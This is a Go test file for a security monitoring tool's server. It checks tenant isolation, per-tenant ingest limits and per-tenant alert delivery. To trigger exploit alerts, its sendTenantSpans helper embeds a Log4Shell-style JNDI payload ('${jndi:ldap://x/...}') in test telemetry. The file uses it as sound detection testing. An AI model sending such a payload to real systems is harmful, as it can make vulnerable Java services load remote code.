package cli

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracehttp"
	"go.opentelemetry.io/otel/sdk/resource"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/sdk/trace/tracetest"
	"go.opentelemetry.io/otel/trace"

	"github.com/evidentsec/evident/internal/alert"
	"github.com/evidentsec/evident/internal/logtest"
)

// sendTenantSpans exports, as the OTel SDK does with headers configured,
// a public request to service carrying a JNDI payload (an exploit alert);
// token "" sends none (an anonymous loopback client).
func sendTenantSpans(t *testing.T, addr, token, orgID, service string) error {
	t.Helper()
	headers := map[string]string{}
	if token != "" {
		headers["Authorization"] = "Bearer " + token
	}
	if orgID != "" {
		headers["X-Scope-OrgID"] = orgID
	}
	exp, err := otlptracehttp.New(t.Context(), otlptracehttp.WithEndpoint(addr), otlptracehttp.WithInsecure(),
		otlptracehttp.WithHeaders(headers), otlptracehttp.WithRetry(otlptracehttp.RetryConfig{Enabled: false}))
	if err != nil {
		t.Fatal(err)
	}
	rec := tracetest.NewSpanRecorder()
	tp := sdktrace.NewTracerProvider(sdktrace.WithSpanProcessor(rec),
		sdktrace.WithResource(resource.NewSchemaless(attribute.String("service.name", service))))
	_, span := tp.Tracer("test").Start(t.Context(), "GET /search", trace.WithSpanKind(trace.SpanKindServer),
		trace.WithAttributes(attribute.String("http.request.method", "GET"), attribute.String("http.route", "/search"),
			attribute.String("url.path", "/search"), attribute.String("url.query", "q=${jndi:ldap://x/"+service+"}"),
			attribute.String("client.address", "198.51.100.7")))
	span.End()
	defer exp.Shutdown(t.Context())
	return exp.ExportSpans(t.Context(), rec.Ended())
}

// createToken makes a token with `evident token create` in data and
// returns it; tenant "" makes one of every tenant.
func createToken(t *testing.T, data, name, role, tenant string) string {
	t.Helper()
	args := []string{"--data", data, "token", "create", "--name", name, "--role", role}
	if tenant != "" {
		args = append(args, "--tenant", tenant)
	}
	code, out, stderr := run(t, args...)
	if code != ExitOK || !strings.HasPrefix(out, "evd_") {
		t.Fatalf("token create = %d %q %s", code, out, stderr)
	}
	return strings.TrimSpace(out)
}

// getAs returns the status and body of a GET with token and an optional
// X-Scope-OrgID.
func getAs(t *testing.T, url, token, orgID string) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), "GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if orgID != "" {
		req.Header.Set("X-Scope-OrgID", orgID)
	}
	if strings.HasSuffix(url, "/stream") {
		return http.StatusOK, "" // a stream does not end; its tenant is the alerts route's
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestServeTenantIsolation is the test that tries: two tenants send
// telemetry (with exploit payloads, so alerts too) and findings of
// services named after them; then every GET route of the API, called
// with tenant A's token, and with an all-tenants token picking A, must
// not show a name of B's, and A's token naming B in X-Scope-OrgID is
// refused on the API and on ingest.
func TestServeTenantIsolation(t *testing.T) {
	data := t.TempDir()
	mk := func(name, role, tenant string) string { return createToken(t, data, name, role, tenant) }
	tokA, tokB, ops := mk("team-a", "admin", "team-a"), mk("team-b", "admin", "team-b"), mk("ops", "admin", "")

	cfg := serveTestConfig(t)
	cfg.Serve.Auth.RequireOnLoopback = true
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}},
		slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn})))
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown(t, srv)
	api, otlpAddr := srv.apiURL(), srv.otlp.HTTPAddr()

	if err := sendTenantSpans(t, otlpAddr, tokA, "", "alpha-svc"); err != nil {
		t.Fatalf("tenant A's spans: %v", err)
	}
	if err := sendTenantSpans(t, otlpAddr, tokB, "", "bravo-svc"); err != nil {
		t.Fatalf("tenant B's spans: %v", err)
	}
	// Tenant A's token cannot put spans into B.
	if err := sendTenantSpans(t, otlpAddr, tokA, "team-b", "alpha-into-bravo"); err == nil || !strings.Contains(err.Error(), "403") {
		t.Errorf("tenant A's spans with X-Scope-OrgID team-b = %v, want 403", err)
	}
	report, err := os.ReadFile(filepath.Join("testdata", "serve", "checkout.govulncheck.json"))
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range []struct{ token, service string }{{tokA, "alpha-svc"}, {tokB, "bravo-svc"}} {
		if got := request(t, "POST", api+"/api/v1/findings?service="+u.service, u.token, "application/json", report); got != http.StatusOK {
			t.Fatalf("upload of %s = %d, want 200", u.service, got)
		}
	}
	waitFor(t, "both tenants' services and alerts", func() bool {
		_, a := getAs(t, api+"/api/v1/alerts", tokA, "")
		_, b := getAs(t, api+"/api/v1/alerts", tokB, "")
		_, sa := getAs(t, api+"/api/v1/services", tokA, "")
		_, sb := getAs(t, api+"/api/v1/services", tokB, "")
		return strings.Contains(a, "alpha-svc") && strings.Contains(b, "bravo-svc") &&
			strings.Contains(sa, "alpha-svc") && strings.Contains(sb, "bravo-svc")
	})

	routes := []string{
		"/api/v1/services", "/api/v1/services/bravo-svc", "/api/v1/services/alpha-svc", "/api/v1/graph", "/api/v1/inventory",
		"/api/v1/findings", "/api/v1/findings?service=bravo-svc", "/api/v1/findings/GO-2024-2958",
		"/api/v1/summary", "/api/v1/report", "/api/v1/export/openvex", "/api/v1/export/sarif", "/api/v1/export/cyclonedx",
		"/api/v1/alerts", "/api/v1/alerts?service=bravo-svc", "/api/v1/alerts/stream", "/api/v1/vulndb",
		"/api/v1/waf/patches", "/api/v1/waf/patches/bravo-svc", "/api/v1/audit", "/metrics",
		// The web UI's pages.
		"/", "/ui/findings", "/ui/map", "/ui/services/bravo-svc", "/ui/services/alpha-svc", "/ui/alerts", "/ui/export/markdown",
	}
	for _, c := range []struct {
		name, token, orgID string
	}{{"A's token", tokA, ""}, {"A's token naming A", tokA, "team-a"}, {"ops token picking A", ops, "team-a"}} {
		for _, route := range routes {
			if c.token == ops && (route == "/api/v1/audit" || route == "/metrics") {
				continue // the deployment's, for a token of every tenant
			}
			status, body := getAs(t, api+route, c.token, c.orgID)
			if strings.Contains(route, "bravo-svc") && !strings.Contains(route, "?") {
				// The answer may echo the name asked for, nothing else.
				body = strings.ReplaceAll(strings.ReplaceAll(body, `\"bravo-svc\"`, ""), "&#34;bravo-svc&#34;", "")
				if status != http.StatusNotFound {
					t.Errorf("%s: GET %s = %d, want 404", c.name, route, status)
				}
			}
			if strings.Contains(body, "bravo") || strings.Contains(body, "team-b") {
				t.Errorf("%s: GET %s = %d shows tenant B's data:\n%.300s", c.name, route, status, body)
			}
		}
	}
	// What a tenant-bound token may not see at all.
	for _, route := range []string{"/api/v1/audit", "/metrics"} {
		if status, _ := getAs(t, api+route, tokA, ""); status != http.StatusForbidden {
			t.Errorf("GET %s with A's token = %d, want 403 (it shows every tenant's)", route, status)
		}
	}
	// A's token naming B: refused on every route, before anything is read.
	for _, route := range routes {
		if strings.HasSuffix(route, "/stream") {
			continue
		}
		if status, body := getAs(t, api+route, tokA, "team-b"); status != http.StatusForbidden || strings.Contains(body, "bravo-svc") {
			t.Errorf("GET %s with A's token and X-Scope-OrgID team-b = %d %.200s, want 403", route, status, body)
		}
	}
	if got := request(t, "POST", api+"/api/v1/findings?service=bravo-svc", tokA, "application/json", report); got != http.StatusOK {
		t.Errorf("tenant A's upload for a service named like B's = %d, want 200 (into A)", got)
	}
	req, _ := http.NewRequestWithContext(t.Context(), "POST", api+"/api/v1/findings?service=bravo-svc", bytes.NewReader(report))
	req.Header.Set("Authorization", "Bearer "+tokA)
	req.Header.Set("X-Scope-OrgID", "team-b")
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("tenant A's upload into team-b = %d, want 403", resp.StatusCode)
	}
	// B still sees its own, and the ops token picking B sees B's.
	if _, body := getAs(t, api+"/api/v1/services", ops, "team-b"); !strings.Contains(body, "bravo-svc") || strings.Contains(body, "alpha") {
		t.Errorf("ops token picking team-b: services %.300s, want bravo-svc only", body)
	}
	// The default tenant has neither.
	if _, body := getAs(t, api+"/api/v1/services", ops, ""); strings.Contains(body, "bravo") || strings.Contains(body, "alpha") {
		t.Errorf("default tenant: services %.300s, want neither tenant's", body)
	}
	// A page the ops token opens from a link naming team-b (as a browser
	// follows it: no header) names team-b in its links, and the page a
	// link leads to shows team-b again, not the token's default tenant.
	_, page := getAs(t, api+"/ui/findings?tenant=team-b", ops, "")
	if want := `href="/ui/services/bravo-svc?tenant=team-b"`; !strings.Contains(page, want) || strings.Contains(page, "alpha") {
		t.Errorf("ops token, /ui/findings?tenant=team-b: want %s and nothing of alpha in:\n%.600s", want, page)
	}
	if _, next := getAs(t, api+"/ui/map?tenant=team-b", ops, ""); !strings.Contains(next, "bravo-svc") || strings.Contains(next, "alpha") {
		t.Errorf("ops token, the runtime map the page links to: want bravo-svc only:\n%.600s", next)
	}
}

// TestServeTenantIngestLimit sends OTLP/HTTP JSON as anonymous loopback
// clients of two tenants with a rate of one span a minute: the second
// batch of a tenant is 429 with Retry-After, the other tenant's bucket is
// its own, and the refusal is counted per tenant.
func TestServeTenantIngestLimit(t *testing.T) {
	cfg := serveTestConfig(t)
	cfg.Serve.Tenants.IngestRate, cfg.Serve.Tenants.IngestBurst = 1.0/60, 1
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: t.TempDir()}
	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}},
		slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn})))
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown(t, srv)
	body := []byte(`{"resourceSpans":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"shop"}}]},
		"scopeSpans":[{"spans":[{"traceId":"5b8efff798038103d269b633813fc60c","spanId":"eee19b7ec3c1b174","name":"GET /",
		"kind":2,"startTimeUnixNano":"1700000000000000000","endTimeUnixNano":"1700000000100000000"}]}]}]}`)
	post := func(orgID string) *http.Response {
		req, _ := http.NewRequestWithContext(t.Context(), "POST", "http://"+srv.otlp.HTTPAddr()+"/v1/traces", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-Scope-OrgID", orgID)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp
	}
	if resp := post("team-a"); resp.StatusCode != http.StatusOK {
		t.Fatalf("team-a's first span = %d, want 200", resp.StatusCode)
	}
	resp := post("team-a")
	if resp.StatusCode != http.StatusTooManyRequests || resp.Header.Get("Retry-After") == "" {
		t.Errorf("team-a's second span = %d, Retry-After %q; want 429 with Retry-After", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
	if resp := post("team-b"); resp.StatusCode != http.StatusOK {
		t.Errorf("team-b's first span = %d, want 200: its bucket is its own", resp.StatusCode)
	}
	_, metrics := getAs(t, srv.apiURL()+"/metrics", "", "")
	if !strings.Contains(metrics, `evident_tenant_ingest_refused_records_total{tenant="team-a"} 1`) {
		t.Errorf("metrics lack team-a's refused span:\n%s", metrics)
	}
}

// TestServeTenantSinks: each alert sink receives the alerts of its own
// tenant and never another's. Three tenants (the default one, team-a
// and team-b) each send a span with an exploit payload; each has a
// webhook, and team-a a JSON-lines file too. After serve has shut down
// (so every queued delivery was made), each sink holds its tenant's
// alert and nothing of the others'.
func TestServeTenantSinks(t *testing.T) {
	type hook struct {
		mu     sync.Mutex
		bodies []string
		srv    *httptest.Server
	}
	newHook := func() *hook {
		h := &hook{}
		h.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			h.mu.Lock()
			h.bodies = append(h.bodies, string(b))
			h.mu.Unlock()
		}))
		t.Cleanup(h.srv.Close)
		return h
	}
	all := func(h *hook) string {
		h.mu.Lock()
		defer h.mu.Unlock()
		return strings.Join(h.bodies, "\n")
	}
	hooks := map[string]*hook{"default": newHook(), "team-a": newHook(), "team-b": newHook()}
	services := map[string]string{"default": "delta-svc", "team-a": "alpha-svc", "team-b": "bravo-svc"}

	data := t.TempDir()
	ops := createToken(t, data, "ops", "ingest", "")
	jsonl := filepath.Join(t.TempDir(), "team-a.jsonl")
	cfg := serveTestConfig(t)
	cfg.Serve.Auth.RequireOnLoopback = true
	// The same sink name in two tenants is two sinks.
	cfg.Serve.Alerts.Webhooks = []webhookSink{
		{Name: "soc", URL: hooks["default"].srv.URL},
		{Name: "soc", Tenant: "team-a", URL: hooks["team-a"].srv.URL},
		{Name: "team-b-soc", Tenant: "team-b", URL: hooks["team-b"].srv.URL},
	}
	cfg.Serve.Alerts.JSONLines = []jsonLinesSink{{Name: "file", Tenant: "team-a", Path: jsonl}}
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
	srv, err := startServer(t.Context(), g, cfg, serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}},
		slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn})))
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown(t, srv)
	for tenant, service := range services {
		orgID := tenant
		if tenant == "default" {
			orgID = ""
		}
		if err := sendTenantSpans(t, srv.otlp.HTTPAddr(), ops, orgID, service); err != nil {
			t.Fatalf("%s's spans: %v", tenant, err)
		}
	}
	waitFor(t, "each tenant's alert at its webhook", func() bool {
		for tenant, h := range hooks {
			if !strings.Contains(all(h), services[tenant]) {
				return false
			}
		}
		return true
	})
	shutdown(t, srv)

	file, err := os.ReadFile(jsonl)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{"webhook default": all(hooks["default"]), "webhook team-a": all(hooks["team-a"]),
		"webhook team-b": all(hooks["team-b"]), "json_lines team-a": string(file)}
	for sink, body := range got {
		tenant := strings.Fields(sink)[1]
		if !strings.Contains(body, services[tenant]) {
			t.Errorf("%s: no alert of %s:\n%.300s", sink, services[tenant], body)
		}
		if named := strings.Contains(body, `"tenant":"`+tenant+`"`); named != (tenant != "default") {
			t.Errorf("%s: alert names tenant %s %v, want %v:\n%.300s", sink, tenant, named, tenant != "default", body)
		}
		for other, service := range services {
			if other != tenant && strings.Contains(body, service) {
				t.Errorf("%s received tenant %s's alert (%s):\n%.300s", sink, other, service, body)
			}
		}
	}
}

func TestAlertsConfigTenant(t *testing.T) {
	good := alertsConfig{Config: alert.DefaultConfig(), Webhooks: []webhookSink{{Name: "soc", Tenant: "team-a", URL: "https://h"}}}
	if err := good.Validate(); err != nil {
		t.Errorf("Validate() = %v", err)
	}
	for _, bad := range []alertsConfig{
		{Config: alert.DefaultConfig(), Webhooks: []webhookSink{{Name: "soc", Tenant: "team/a", URL: "https://h"}}},
		{Config: alert.DefaultConfig(), Alertmanager: []alertmanagerSink{{Name: "soc", Tenant: "..", URL: "https://h"}}},
		{Config: alert.DefaultConfig(), Slack: []slackSink{{Name: "soc", Tenant: "a b", URL: "https://h"}}},
		{Config: alert.DefaultConfig(), JSONLines: []jsonLinesSink{{Name: "soc", Tenant: "a|b", Path: "x"}}},
	} {
		if err := bad.Validate(); err == nil || !strings.Contains(err.Error(), "soc") || !strings.Contains(err.Error(), "tenant") {
			t.Errorf("Validate(%+v) = %v, want an error naming the sink and its tenant", bad, err)
		}
	}
}

// tenantsGauge is evident_tenants as /metrics says it.
func tenantsGauge(t *testing.T, api string) string {
	t.Helper()
	_, metrics := getAs(t, api+"/metrics", "", "")
	for line := range strings.Lines(metrics) {
		if v, ok := strings.CutPrefix(line, "evident_tenants "); ok {
			return strings.TrimSpace(v)
		}
	}
	t.Fatalf("no evident_tenants in /metrics:\n%.500s", metrics)
	return ""
}

// unstable are the parts of an answer that differ between two reads of
// the same state: times, and the ids exports make up per document.
var unstable = regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)|urn:uuid:[0-9a-f-]+|"(serialNumber|@id)": "[^"]*"`)

// TestServeTenantReadsCreateNothing is the defect a new user found:
// reads created tenants, so anyone who could read could use up
// serve.tenants.max_tenants and lock real tenants out of ingest. With
// max_tenants 3, over a data directory where tenant stored-team was
// written before a restart: every read route, of the API and the UI,
// of four unknown tenants answers 200 (404 for a named item) with
// exactly what the default tenant, as new, answers, and creates
// nothing (evident_tenants, the log); stored-team is still read with
// its data (built from the store); and a new tenant's ingest succeeds.
func TestServeTenantReadsCreateNothing(t *testing.T) {
	data := t.TempDir()
	cfg := serveTestConfig(t)
	cfg.Serve.Tenants.MaxTenants = 3
	fl := serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}}
	report, err := os.ReadFile(filepath.Join("testdata", "serve", "checkout.govulncheck.json"))
	if err != nil {
		t.Fatal(err)
	}

	// Before the restart: stored-team's spans (with an exploit, so an
	// alert) and findings.
	srv := startTestServerConfig(t, data, cfg, fl)
	if err := sendTenantSpans(t, srv.otlp.HTTPAddr(), "", "stored-team", "stored-svc"); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequestWithContext(t.Context(), "POST", srv.apiURL()+"/api/v1/findings?service=stored-svc", bytes.NewReader(report))
	req.Header.Set("X-Scope-OrgID", "stored-team")
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("stored-team's upload = %d, want 200", resp.StatusCode)
	}
	waitFor(t, "stored-team's service and alert", func() bool {
		_, s := getAs(t, srv.apiURL()+"/api/v1/services", "", "stored-team")
		_, a := getAs(t, srv.apiURL()+"/api/v1/alerts", "", "stored-team")
		return strings.Contains(s, "stored-svc") && strings.Contains(a, "stored-svc")
	})
	shutdown(t, srv)

	logs := &logtest.Buffer{}
	g := &globals{stdout: io.Discard, stderr: io.Discard, dataDir: data}
	srv, err = startServer(t.Context(), g, cfg, fl, slog.New(slog.NewTextHandler(io.MultiWriter(logs, t.Output()), nil)))
	if err != nil {
		t.Fatal(err)
	}
	defer shutdown(t, srv)
	api := srv.apiURL()
	if got := tenantsGauge(t, api); got != "1" {
		t.Fatalf("evident_tenants after the restart = %s, want 1 (default)", got)
	}

	routes := []struct {
		path   string
		status int
	}{
		{"/api/v1/services", 200}, {"/api/v1/services?limit=1", 200}, {"/api/v1/services/stored-svc", 404},
		{"/api/v1/graph", 200}, {"/api/v1/inventory", 200},
		{"/api/v1/findings", 200}, {"/api/v1/findings?service=stored-svc", 200}, {"/api/v1/findings/GO-2024-2958", 404},
		{"/api/v1/summary", 200}, {"/api/v1/report", 200},
		{"/api/v1/export/openvex", 200}, {"/api/v1/export/sarif", 200}, {"/api/v1/export/cyclonedx", 200},
		{"/api/v1/alerts", 200}, {"/api/v1/alerts?service=stored-svc", 200}, {"/api/v1/alerts/x", 404},
		{"/api/v1/waf/patches", 200}, {"/api/v1/waf/patches/stored-svc", 404},
		{"/", 200}, {"/ui/findings", 200}, {"/ui/map", 200}, {"/ui/alerts", 200}, {"/ui/export/markdown", 200},
		{"/ui/services/stored-svc", 404},
	}
	for _, probe := range []string{"x1", "x2", "x3", "x4"} {
		for _, rt := range routes {
			t.Run(probe+rt.path, func(t *testing.T) {
				status, body := getAs(t, api+rt.path, "", probe)
				if status != rt.status {
					t.Fatalf("GET %s of unknown tenant %s = %d %.300s, want %d", rt.path, probe, status, body, rt.status)
				}
				if rt.status == 200 && strings.Contains(body, "stored") { // a 404 echoes the name asked for
					t.Errorf("GET %s of unknown tenant %s shows stored-team's data:\n%.300s", rt.path, probe, body)
				}
				if strings.HasPrefix(rt.path, "/ui/") || rt.path == "/" {
					return // pages name the tenant in their links
				}
				// The answer of a new tenant: the default one, which
				// nothing was written to.
				_, want := getAs(t, api+rt.path, "", "")
				if diff := cmp.Diff(unstable.ReplaceAllString(want, "X"), unstable.ReplaceAllString(body, "X")); diff != "" {
					t.Errorf("GET %s of unknown tenant %s (-new default tenant +got):\n%s", rt.path, probe, diff)
				}
			})
		}
		// The link form, as the alerts' links and the UI carry it.
		if status, _ := getAs(t, api+"/api/v1/findings?tenant="+probe, "", ""); status != 200 {
			t.Errorf("GET /api/v1/findings?tenant=%s = %d, want 200", probe, status)
		}
	}
	if got := tenantsGauge(t, api); got != "1" {
		t.Errorf("evident_tenants after reads of unknown tenants = %s, want 1", got)
	}
	if strings.Contains(logs.String(), "tenant created") {
		t.Errorf("reads of unknown tenants logged:\n%s", logs.String())
	}

	// stored-team exists only in the store: a read builds it, with its
	// data.
	if _, body := getAs(t, api+"/api/v1/services", "", "stored-team"); !strings.Contains(body, "stored-svc") {
		t.Errorf("stored-team's services after the restart = %.300s, want stored-svc", body)
	}
	if _, body := getAs(t, api+"/api/v1/alerts", "", "stored-team"); !strings.Contains(body, "stored-svc") {
		t.Errorf("stored-team's alerts after the restart = %.300s, want its alert", body)
	}
	// A real tenant's spans: the third tenant of three.
	if err := sendTenantSpans(t, srv.otlp.HTTPAddr(), "", "team-real", "real-svc"); err != nil {
		t.Fatalf("team-real's spans after reads of four unknown tenants: %v", err)
	}
	waitFor(t, "team-real's service", func() bool {
		_, s := getAs(t, api+"/api/v1/services", "", "team-real")
		return strings.Contains(s, "real-svc")
	})
	if _, body := getAs(t, api+"/api/v1/services", "", "team-real"); strings.Contains(body, "stored") {
		t.Errorf("team-real's services show stored-team's: %.300s", body)
	}
	if got := tenantsGauge(t, api); got != "3" {
		t.Errorf("evident_tenants = %s, want 3 (default, stored-team, team-real)", got)
	}
}

// TestServeTenantStreamBeforeFirstWrite: the alert stream of a tenant
// that does not exist creates it no more than another read, and still
// sends the tenant's first alert once a write has created it.
func TestServeTenantStreamBeforeFirstWrite(t *testing.T) {
	srv := startTestServer(t, t.TempDir(), serveFlags{vulns: []string{filepath.Join("testdata", "serve", "osv")}})
	defer shutdown(t, srv)
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", srv.apiURL()+"/api/v1/alerts/stream", nil)
	req.Header.Set("X-Scope-OrgID", "late")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("stream of a tenant that does not exist = %d, want 200", resp.StatusCode)
	}
	lines := make(chan string)
	go func() {
		defer close(lines)
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			select {
			case lines <- sc.Text():
			case <-ctx.Done():
				return
			}
		}
	}()
	if got := tenantsGauge(t, srv.apiURL()); got != "1" {
		t.Errorf("evident_tenants with the stream open = %s, want 1", got)
	}
	if err := sendTenantSpans(t, srv.otlp.HTTPAddr(), "", "late", "late-svc"); err != nil {
		t.Fatal(err)
	}
	for line := range lines {
		if strings.HasPrefix(line, "data: ") && strings.Contains(line, "late-svc") {
			return
		}
	}
	t.Errorf("the stream opened before the tenant's first write ended without its alert: %v", ctx.Err())
}
